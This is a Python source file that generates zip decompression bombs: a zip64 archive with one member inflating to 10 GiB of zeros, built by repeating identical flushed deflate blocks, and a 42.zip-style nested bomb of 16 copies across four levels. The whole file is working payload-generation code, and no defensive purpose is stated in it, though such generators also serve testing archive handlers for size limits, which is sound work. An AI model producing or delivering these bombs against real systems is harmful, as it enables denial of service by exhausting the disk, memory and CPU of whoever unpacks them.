"""Decompression bombs built without ever holding their output: the deflate stream is made of
identical flushed blocks, so a 10 GiB member costs a few seconds of CRC and a few MB of file.
"""

from __future__ import annotations

import struct
import zlib

GiB = 1 << 30
_CHUNK = 64 << 20


def _zero_blocks(total: int) -> tuple[bytes, int, int]:
    """(raw deflate stream for ``total`` zero bytes, crc32, size); ``total`` % 64 MiB == 0."""
    assert total % _CHUNK == 0
    zeros = bytes(_CHUNK)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    # After a full flush the compressor forgets its history, so every later chunk of zeros
    # compresses to the same bytes: build one, repeat it.
    first = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeat = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.flush(zlib.Z_FINISH)
    count = total // _CHUNK
    stream = first + repeat * (count - 1) + tail
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(zeros, crc)
    return stream, crc, total


def zip64_single(name: str, stream: bytes, crc: int, size: int) -> bytes:
    """A zip64 archive with one deflated member given as a raw stream."""
    encoded = name.encode("utf-8")
    flags = 0x0800  # UTF-8 names
    dos_time, dos_date = 0x4BC0, 0x4A6E  # 2017-03-14 09:30:00
    extra_local = struct.pack("<HHQQ", 0x0001, 16, size, len(stream))
    local = struct.pack(
        "<4sHHHHHIIIHH",
        b"PK\x03\x04",
        45,
        flags,
        8,
        dos_time,
        dos_date,
        crc,
        0xFFFFFFFF,
        0xFFFFFFFF,
        len(encoded),
        len(extra_local),
    )
    local += encoded + extra_local
    extra_central = struct.pack("<HHQQQ", 0x0001, 24, size, len(stream), 0)
    central = struct.pack(
        "<4sHHHHHHIIIHHHHHII",
        b"PK\x01\x02",
        45,
        45,
        flags,
        8,
        dos_time,
        dos_date,
        crc,
        0xFFFFFFFF,
        0xFFFFFFFF,
        len(encoded),
        len(extra_central),
        0,
        0,
        0,
        0o644 << 16,
        0,
    )
    central += encoded + extra_central
    cd_offset = len(local) + len(stream)
    end64 = struct.pack(
        "<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 1, 1, len(central), cd_offset
    )
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, cd_offset + len(central), 1)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central), cd_offset, 0)
    return local + stream + central + end64 + locator + end


def zeros_bomb(size: int = 10 * GiB) -> bytes:
    """A zip whose one member inflates to ``size`` zero bytes (default 10 GiB)."""
    stream, crc, total = _zero_blocks(size)
    return zip64_single("zeros.bin", stream, crc, total)


def nested_bomb(levels: int = 4, fan_out: int = 16, leaf: int = GiB) -> bytes:
    """42.zip-style: ``fan_out`` copies of the level below at every level, ``leaf`` zero bytes
    at the bottom: 16**4 GiB of nominal output from a file of a few hundred kB."""
    import io
    import zipfile

    data = zeros_bomb(leaf)
    for level in range(levels):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for index in range(fan_out):
                info = zipfile.ZipInfo(
                    f"lib{level}_{index:x}.zip", date_time=(2017, 3, 14, 9, 30, 0)
                )
                info.compress_type = zipfile.ZIP_DEFLATED
                archive.writestr(info, data)
        data = buffer.getvalue()
    return data
